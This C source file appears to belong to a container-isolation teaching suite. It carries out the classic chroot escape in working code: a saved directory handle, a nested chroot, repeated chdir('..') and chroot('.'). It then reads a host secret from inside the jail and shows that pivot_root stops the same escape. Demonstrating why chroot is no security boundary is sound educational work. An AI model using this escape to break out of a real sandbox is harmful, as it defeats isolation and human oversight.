/*
 * escape.c: the classic way out of a chroot, really taken, and tried again behind
 * pivot_root.
 */
#define _GNU_SOURCE
#include "step02_mount_ns/mount_ns.h"
#include "scenes.h"

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <unistd.h>

struct place {
	dev_t dev;
	ino_t ino;
};

struct attack {
	bool pivot;
	const char *jail, *secret;	/* as the host names them */
	struct place host, first, last; /* what / is: for the host, locked in, after the attack */
	char loot[64];
	int err; /* of opening the secret */
};

static int where_is_root(struct place *place)
{
	struct stat st;

	if (SYS(stat("/", &st), "/") < 0)
		return -1;
	*place = (struct place){ .dev = st.st_dev, .ino = st.st_ino };
	return 0;
}

static bool same_place(struct place a, struct place b)
{
	return a.dev == b.dev && a.ino == b.ino;
}

static int lock_in(const struct attack *attack)
{
	if (!attack->pivot)
		return SYS(chroot(attack->jail), attack->jail) < 0 || SYS(chdir("/"), "/") < 0 ? -1
											       : 0;
	int root = SYS(open(attack->jail, O_PATH | O_DIRECTORY | O_CLOEXEC), attack->jail);
	if (root < 0)
		return -1;
	int result = pivot_into(root);
	close(root); /* an open directory of outside would be a way out */
	return result;
}

/* The kernel stops ".." at the root directory and nowhere else. So: have a directory that is not
 * below the root any more. chroot(2) itself says so, and that it is no security boundary. */
static int escape(void)
{
	int outside = SYS(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), "/");

	if (outside < 0 || (SYS_MAY(mkdir("x", 0700), "x", EEXIST) < 0 && errno != EEXIST))
		return -1;
	if (SYS(chroot("x"), "x") < 0)
		return -1;
	if (SYS(fchdir(outside), "the old /, now above the root") < 0)
		return -1;
	close(outside);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -1;
	return SYS(chroot("."), "wherever .. ends");
}

static int attack_jail(struct witness *self)
{
	struct attack *attack = self->arg;

	if (mount_private() < 0 || where_is_root(&attack->host) < 0)
		return -1;
	if (lock_in(attack) < 0 || where_is_root(&attack->first) < 0)
		return -1;
	if (escape() < 0 || where_is_root(&attack->last) < 0)
		return -1;
	errno = 0;
	read_line(attack->secret, attack->loot, sizeof(attack->loot));
	attack->err = errno;
	return 0;
}

static struct attack *play_attack(bool pivot, const char *jail, const char *secret)
{
	struct attack *attack = shared_memory(sizeof(*attack));
	struct witness attacker;

	*attack = (struct attack){ .pivot = pivot, .jail = jail, .secret = secret };
	witness_start(&attacker, CLONE_NEWNS, attack_jail, attack);
	witness_end(&attacker);
	return attack;
}

static const char *spell(const struct attack *attack, struct place place, char *buf, size_t size)
{
	snprintf(buf, size, "inode %lu%s", (unsigned long)place.ino,
		 same_place(place, attack->host)    ? " = THE HOST'S"
		 : same_place(place, attack->first) ? " = the jail's"
						    : "");
	return buf;
}

static void judge(const struct attack *in_chroot, const struct attack *second, const char *secret)
{
	bool out = same_place(in_chroot->last, in_chroot->host),
	     second_out = same_place(second->last, second->host);

	value("chroot_escaped", "%s", out ? "yes" : "no");
	value("pivot_escaped", "%s", second_out ? "yes" : "no");
	value("chroot_loot", "%s", in_chroot->loot);
	value("secret", "%s", secret);
	check(!same_place(in_chroot->first, in_chroot->host),
	      "the chroot should have another / at first");
	check(out && strcmp(in_chroot->loot, secret) == 0,
	      "the way out of the chroot should end at the host's secret");
	if (broken("pivot")) {
		check(second_out && strcmp(second->loot, secret) == 0,
		      "without pivot_root the attack should succeed");
		verdict("a container locked in by chroot alone: it has read \"%s\"", second->loot);
		return;
	}
	check(!second_out && same_place(second->last, second->first),
	      "behind pivot_root / should stay the jail's");
	check(second->err == ENOENT,
	      "behind pivot_root the secret should not exist (ENOENT), is %s",
	      strerror(second->err));
	verdict("out of the chroot; behind pivot_root .. ends in the jail");
}

/* A fresh one, so that nobody can know it without reading it. */
static void make_secret(char *secret, size_t size)
{
	unsigned random[2] = { 0 };

	if (SYS(getrandom(random, sizeof(random), 0), "a secret") < 0)
		fail_scene();
	snprintf(secret, size, "%08x%08x", random[0], random[1]);
}

void scene_chroot_escape(void)
{
	char secret[40], a[64], b[64];
	const char *jail, *path;

	playground();
	jail = in_playground("jail");
	path = in_playground("secret");
	make_secret(secret, sizeof(secret));
	place_dir(jail);
	place_file(path, secret);
	if (SYS(mount("jail", jail, "tmpfs", 0, "size=64k"), jail) < 0)
		fail_scene();
	act("Root in a jail; beside it on the host: a secret, \"%s\".", secret);
	struct attack *one = play_attack(false, jail, path),
		      *two = play_attack(!broken("pivot"), jail, path);

	heads("IN A CHROOT", two->pivot ? "BEHIND PIVOT_ROOT" : "PIVOT_ROOT LEFT OUT");
	row("/ at first", "%s\t%s", spell(one, one->first, a, sizeof(a)),
	    spell(two, two->first, b, sizeof(b)));
	say("  fd = open(\"/\"); mkdir(\"x\"); chroot(\"x\");   the root is below us now");
	say("  fchdir(fd); 64 x chdir(\"..\"); chroot(\".\");  and nothing stops ..");
	act(NULL);
	row("/ at last", "%s\t%s", spell(one, one->last, a, sizeof(a)),
	    spell(two, two->last, b, sizeof(b)));
	row("secret", "%s\t%s", one->err ? strerror(one->err) : one->loot,
	    two->err ? strerror(two->err) : two->loot);
	if (two->pivot)
		say("The same calls worked; but the mount above the jail's / is gone.");
	judge(one, two, secret);
}
